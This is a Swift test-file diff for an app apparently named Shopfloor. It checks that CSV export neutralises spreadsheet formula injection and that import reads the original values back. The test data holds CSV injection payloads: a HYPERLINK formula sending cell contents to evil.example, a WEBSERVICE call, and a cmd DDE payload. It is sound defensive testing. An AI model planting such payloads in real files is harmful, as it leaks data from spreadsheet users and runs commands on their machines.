@@ -71,6 +71,51 @@ struct ExportTests {
         }
     }
 
+    /// Cell values that spreadsheet programs run as formulas when a CSV starts a cell with them [OWASP].
+    static let formulas = ["=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Ayşe\")", "+WEBSERVICE(\"http://evil.example\")",
+        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tTab first", "\rCR first"]
+
+    @Test("CSV export neutralises every cell a spreadsheet would run, and import reads the original back")
+    func csvFormulas() throws {
+        let places = Self.formulas.enumerated().map { i, text in
+            Place(id: Place.ID("n\(i)"), kind: .neighbourhood, name: text, district: text)
+        }
+        let people = Self.formulas.enumerated().map { i, text in
+            Person(id: Person.ID("p\(i)"), name: text, home: Place.ID("n\(i)"), tags: [text], notes: text)
+        }
+        var workplace = Workplace(id: "w", name: Self.formulas[0], headcount: 10)
+        workplace.sector = Self.formulas[1]
+        workplace.employer = Self.formulas[3]
+        workplace.union = Union(name: Self.formulas[2], character: .yellow)
+        let graph = OrganizingGraph(name: "formulas", workplaces: [workplace], people: people, places: places)
+        #expect(graph.violations().isEmpty)
+        let out = try Scratch.folder() + "/formulas.d"
+        try ExportFormat.csv.write(graph, to: out)
+        var cells = 0
+        for file in CSVWriter.files(of: graph) {
+            let data = try Data(contentsOf: URL(fileURLWithPath: out + "/" + file.name))
+            #expect(data.starts(with: [0xEF, 0xBB, 0xBF]), "\(file.name) has no byte-order mark")
+            let table = try CSVTable.parse(data: data, path: file.name)
+            // What a spreadsheet sees: the raw fields, before Shopfloor's import takes the guard off again.
+            let raw = try CSVTable.split(String(decoding: data.dropFirst(3), as: UTF8.self), delimiter: ",", path: file.name)
+            for field in raw.flatMap(\.fields) {
+                cells += 1
+                let first = field.unicodeScalars.first.map(Character.init)
+                #expect(first.map { !"=+-@\t\r".contains($0) } ?? true, "\(file.name): a spreadsheet would run \(field)")
+            }
+            #expect(table.records.count == raw.count - 1)
+        }
+        #expect(cells > 50)
+        let again = try SpreadsheetImport.run(paths: CSVWriter.files(of: graph).map { out + "/" + $0.name },
+            into: OrganizingGraph()).graph
+        // Names starting with =, +, - or @ come back as they were (the import trims a leading tab and reads a
+        // line break inside a field as LF, as it does for any CSV).
+        #expect(again.people.map(\.name).prefix(4) == graph.people.map(\.name).prefix(4))
+        #expect(again.places.map(\.name).prefix(4) == graph.places.map(\.name).prefix(4))
+        #expect(again.workplaces.first?.union?.name == Self.formulas[2])
+        #expect(again.workplaces.first?.sector == Self.formulas[1])
+    }
+
     @Test("without --reveal-names no name, address or note leaves; aliases are stable and the file still loads")
     func redaction() throws {
         let (graph, secret) = try workspaceGraph()
